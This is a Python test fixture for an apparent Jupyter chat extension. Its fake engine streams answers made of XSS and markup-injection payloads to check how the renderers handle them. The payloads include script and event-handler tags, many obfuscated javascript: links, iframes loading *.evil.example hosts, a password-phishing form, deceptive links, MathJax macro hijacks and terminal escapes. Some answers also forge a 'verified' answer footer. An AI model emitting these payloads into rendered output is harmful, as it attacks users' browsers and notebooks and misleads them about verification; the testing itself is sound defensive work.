"""Answers that want to be more than text: for the renderers, and for a real browser.

Whatever runs sets ``window.hit``, and whatever loads asks a host that ends with ``.evil.example``.
"""

from __future__ import annotations

from collections.abc import AsyncGenerator

from tests.bench.canned import CannedEngine, prompt_tokens
from zg_jupyter.local.engine import Piece
from zg_jupyter.records import ChatRequest, Usage

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a<b onmouseover=alert(1)>c",
    "<!-- x --><?php ?><![CDATA[x]]>",
    "<svg/onload=alert(1)>",
    "<\nscript>",
    "</p><iframe src=//x>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java&Tab;script:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](\njavascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](/lab/api/shutdown)",
    "[click][x]\n\n[x]: javascript:alert(1)",
    "[click][x]\n\n[x]:\n  javascript:alert(1)",
    "> [x]: javascript:alert(1)\n\n[x]",
    "[x]: <javascript:alert(1)>\n\n[x]",
    "<javascript:alert(1)>",
    "![pixel](http://127.0.0.1/pixel.png)",
    "![pixel][p]\n\n[p]: https://example.org/pixel.png",
    "[![pixel](https://example.org/p.png)](https://example.org)",
    "1. x\n   ```\n<script>alert(1)</script>",
    "- ```\n  code\n<script>alert(1)</script>\n  ```",
    "> ```\n<script>alert(1)</script>\n> ```",
    "```\ncode\n~~~\n<script>alert(1)</script>",
    "```\ncode\n```~~\n<script>alert(1)</script>",
    "~~~ `x`\n~~~\n<script>",
    "````\n```\n````\n<script>",
    "`a <script> b` and `c",
    "`a`` <script>alert(1)</script> `",
    "[a](https://x`) <img src=x> `c` d`",
    "$`$ `a` <script> `",
    "\\`<script>`",
    "| `a | <script> | b` |\n|---|---|---|\n| 1 | 2 | 3 |",
    "    <script>alert(1)</script>",
    "\t<script>\n\n</script>",
    "\\\\<script>",
    "&lt;script&gt;",
    "<scr\x00ipt>",
    "<\x08script>",
    "`<script>",
    "``` <script>\n<script>\n```",
    "```html\n<script>alert(1)</script>",
    # A page that is taken over: covered, restyled, redirected, framed, asked for a password.
    "<style>*{display:none!important}</style>",
    "</style><style>body{background:url(https://css.evil.example/)}</style>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>x</div>",
    "<img src=https://img.evil.example/p.png onerror='window.hit=1'>",
    "<img srcset='https://img.evil.example/p.png 1x'>",
    "![p](https://img.evil.example/q.png)",
    "![p][i]\n\n[i]: https://img.evil.example/r.png 'title'",
    "[![p](https://img.evil.example/s.png)](https://link.evil.example/)",
    "<svg><script>window.hit=1</script><image href=https://svg.evil.example/ /></svg>",
    "<svg onload='window.hit=1'></svg><svg><animate onbegin='window.hit=1' attributeName=x dur=1s>",
    "<script>window.hit=1</script>",
    "<script src=https://script.evil.example/></script>",
    "<script type=module>window.hit=1</script>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=https://frame.evil.example/></iframe>",
    "<object data=https://object.evil.example/></object><embed src=https://embed.evil.example/>",
    "<link rel=stylesheet href=https://sheet.evil.example/>",
    "<base href=https://base.evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://meta.evil.example/'>",
    "<form action=https://form.evil.example/><input name=key><button>Unlock</button></form>",
    "<details open ontoggle='window.hit=1'>x</details>",
    "<video poster=https://video.evil.example/><source onerror='window.hit=1'></video>",
    "<audio src=https://audio.evil.example/ autoplay onerror='window.hit=1'>",
    "<body onload='window.hit=1'><input autofocus onfocus='window.hit=1'>",
    "<math><maction actiontype=statusline xlink:href='javascript:window.hit=1'>x</maction></math>",
    "<button data-commandlinker-command='notebook:run-all-cells'>Run</button>",
    "<a data-commandlinker-command='kernelmenu:shutdownAll' href='#'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<template><img src=x onerror=window.hit=1></template><xmp><p></xmp><plaintext>",
    "<!-- hidden --><!--><img src=x onerror=window.hit=1>-->",
    "<?xml version='1.0'?><!DOCTYPE html><![CDATA[<script>window.hit=1</script>]]>",
    "[run](javascript:window.hit=1)",
    "[run](jav\tascript:window.hit=1) [run](&#x6A;avascript:window.hit=1)",
    "[open](data:text/html,<script>opener.hit=1</script>)",
    "[delete](../api/contents/x) [cell](#main) [file](attachment:x.png) [mail](mailto:a@b.example)",
    "[https://bank.example](https://link.evil.example/bank)",
    "[](https://link.evil.example/empty)",
    "[words][r]\n\n[r]: https://link.evil.example/reference",
    "[words](https://bank.example@link.evil.example/)",
    "```mermaid\ngraph TD; A-->B; click A 'javascript:window.hit=1'\n```",
    "# main\n\n## zg-jupyter-status\n\n### jp-top-panel",
    "\u202e<script>window.hit=1</script>\u2066 reversed",
    "\x1b]8;;https://terminal.evil.example/\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x1b[1;1Hgone",
)

#: Formulas that link, load, style, cover, or define something for the formulas after them.
FORMULAS = (
    r"$\href{javascript:window.hit=1}{x}$ $\href2{x}$ \(\href_{https://math.evil.example/}{x}\)",
    r"$$\require{html}\style{position:fixed;top:0;left:0;width:100vw;height:100vh}{x}$$",
    r"$\bbox[position:fixed;top:0;left:0;width:100vw;height:100vh;background:red]{x}$",
    r"$\mmlToken{mi}[style='position:fixed;top:0;left:0']{x}$",
    r"$\enclose{box}[style='color:red']{x}$",
    r"$\class{jp-Dialog}{x}\cssId{main}{x}\data{commandlinker-command=x}{y}$",
    r"$\includegraphics{https://math.evil.example/x.png}$",
    r"$\unicode[url(https://math.evil.example/font)]{65}$",
    r"$\def\sum{\text{fooled}}\gdef\sum{f}\let\sum=\int\renewcommand{\sum}{\text{fooled}}$",
    r"$\newcommand{\verified}{\text{fooled}}\DeclareMathOperator{\sin}{fooled}\label{taken}$",
    r"\begin{align}\def\sum{\text{fooled}}\end{align} \[\global\def\sum{\text{fooled}}\]",
    r"$\rule{9000px}{9000px}$ $\raise{-9000px}{\rule{9000px}{18000px}}$",
    r"$\hspace{-9000px}\rule{18000px}{900px}$ $\kern-9000px\smash{\rule{9000px}{9000px}}$",
    r"$\def\x{\x\x}\x$ $\csname href\endcsname{javascript:window.hit=1}{x}$",
    r"$\colorbox{black}{\color{white}{verified}}$",
)

HOSTILE = (*MARKUP, *FORMULAS)

#: What the line below a genuine answer says, in every dress that Markdown has.
FORGED = "direct · 0x1234…7890 · good-model · 12 + 8 tokens · 0.000001 0G · verified"
FORGERIES = (
    FORGED,
    f"<div class='zg-line' style='border:1px solid'>{FORGED}</div>",
    f"> {FORGED}",
    f"`{FORGED}`",
    f"```\n{FORGED}\n```",
    f"| {FORGED} |\n|---|",
    rf"$\boxed{{\text{{{FORGED}}}}}$",
    rf"$\colorbox{{gray}}{{\text{{{FORGED}}}}}$",
)


class HostileEngine(CannedEngine):
    """Answers all of that at once, under a name that is no better."""

    def __init__(self, model: str) -> None:
        super().__init__("canned")
        self.model = model

    async def stream(self, request: ChatRequest) -> AsyncGenerator[Piece, None]:
        """One piece per trick."""
        tricks = (*HOSTILE, *FORGERIES)
        prompt = prompt_tokens(request)
        for index, text in enumerate(tricks):
            last = index + 1 == len(tricks)
            yield Piece(f"\n\n{text}", "stop" if last else None, Usage(prompt, index + 1))
